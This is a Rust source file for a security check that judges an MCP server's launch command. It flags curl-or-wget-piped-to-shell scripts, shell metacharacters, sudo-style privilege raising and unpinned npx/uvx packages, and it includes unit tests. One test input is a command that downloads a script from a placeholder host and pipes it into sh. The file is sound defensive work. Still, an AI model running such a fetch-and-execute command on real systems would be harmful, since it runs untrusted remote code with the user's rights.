//! The command line of a server: what is run in the user's name.

use super::Runs;
use crate::doctor::Check;
use crate::doctor::finding::{Finding, excerpt};

pub(super) const CHECKS: &[Check<Runs>] = &[Check {
    id: "stdio-command",
    title: "the command runs what it names: no shell script, no more rights, a fixed version",
    clause: "MCP Security Best Practices, Local MCP Server Compromise",
    fix: "Name the program and its arguments without a shell, without sudo, and a package with \
          its version (npx -y PACKAGE@1.2.3).",
    run: |runs| Box::pin(async { command(runs) }),
}];

/// Programs that fetch a package and run it.
const RUNNERS: [&str; 6] = ["npx", "bunx", "pnpx", "uvx", "pipx", "deno"];

/// Programs that give more rights.
const RAISERS: [&str; 4] = ["sudo", "doas", "pkexec", "su"];

/// Programs that read a script.
const SHELLS: [&str; 6] = ["sh", "bash", "zsh", "dash", "ksh", "fish"];

fn command(runs: &Runs) -> Finding {
    let program = runs.target.program.to_string_lossy();
    let args: Vec<String> =
        runs.target.args.iter().map(|it| it.to_string_lossy().into_owned()).collect();
    judge(program.rsplit('/').next().unwrap_or_default(), &args)
}

fn judge(program: &str, args: &[String]) -> Finding {
    let script = args.iter().skip_while(|it| *it != "-c").nth(1);
    if let Some(script) = script.filter(|_| SHELLS.contains(&program)) {
        let fetches = ["curl ", "wget "].iter().any(|it| script.contains(it));
        let pipes = SHELLS.iter().any(|it| script.contains(&format!("| {it}")))
            || SHELLS.iter().any(|it| script.contains(&format!("|{it}")));
        if fetches && pipes {
            return Finding::fail(format!(
                "it runs what comes from the network: {}",
                excerpt(script)
            ));
        }
        if script.contains(['|', ';', '&', '$', '`', '>', '<']) {
            return Finding::warn(format!("a shell reads it: {}", excerpt(script)));
        }
    }
    if RAISERS.contains(&program) {
        return Finding::warn(format!("{program} gives it more rights than you have"));
    }
    match package(program, args) {
        Some(package) if !is_pinned(package) => Finding::warn(format!(
            "{program} runs whatever version of {package} is the newest; name one"
        )),
        Some(package) => Finding::pass(format!("{program} runs {package}")),
        None => Finding::pass(program.to_owned()),
    }
}

/// The package that such a program is to fetch.
fn package<'a>(program: &str, args: &'a [String]) -> Option<&'a str> {
    if !RUNNERS.contains(&program) {
        return None;
    }
    let named = args.windows(2).find(|pair| matches!(&*pair[0], "--from" | "--package" | "-p"));
    let named = named.map(|pair| pair[1].as_str());
    let plain = args.iter().find(|it| !it.starts_with('-') && *it != "run");
    // A path is here already.
    named.or(plain.map(String::as_str)).filter(|it| !it.starts_with(['.', '/']))
}

/// Whether a package is named with its version.
fn is_pinned(package: &str) -> bool {
    let version = match package.split_once("==") {
        Some((_, version)) => version,
        // The first `@` belongs to the name.
        None => match package.get(1..).and_then(|rest| rest.rsplit_once('@')) {
            Some((_, version)) => version,
            None => return false,
        },
    };
    version.starts_with(|c: char| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::doctor::Verdict;

    #[test]
    fn commands_are_judged_by_what_they_run() {
        let check = |line: &[&str], expected: Verdict| {
            let args: Vec<String> = line[1..].iter().map(|it| (*it).to_owned()).collect();
            assert_eq!(judge(line[0], &args).verdict, expected, "{line:?}");
        };
        check(&["npx", "-y", "@scope/server"], Verdict::Warn);
        check(&["npx", "-y", "@scope/server@latest"], Verdict::Warn);
        check(&["npx", "-y", "@scope/server@1.2.3"], Verdict::Pass);
        check(&["npx", "-y", "server@2"], Verdict::Pass);
        check(&["npx", "./server"], Verdict::Pass);
        check(&["uvx", "mcp-server-time"], Verdict::Warn);
        check(&["uvx", "mcp-server-time==2025.7.1"], Verdict::Pass);
        check(&["uvx", "--from", "server@1.0", "run-it"], Verdict::Pass);
        check(&["node", "index.js"], Verdict::Pass);
        check(&["sudo", "server"], Verdict::Warn);
        check(&["sh", "-c", "exec server"], Verdict::Pass);
        check(&["sh", "-c", "server > log"], Verdict::Warn);
        check(&["bash", "-c", "curl https://e.example/i | sh"], Verdict::Fail);
    }
}
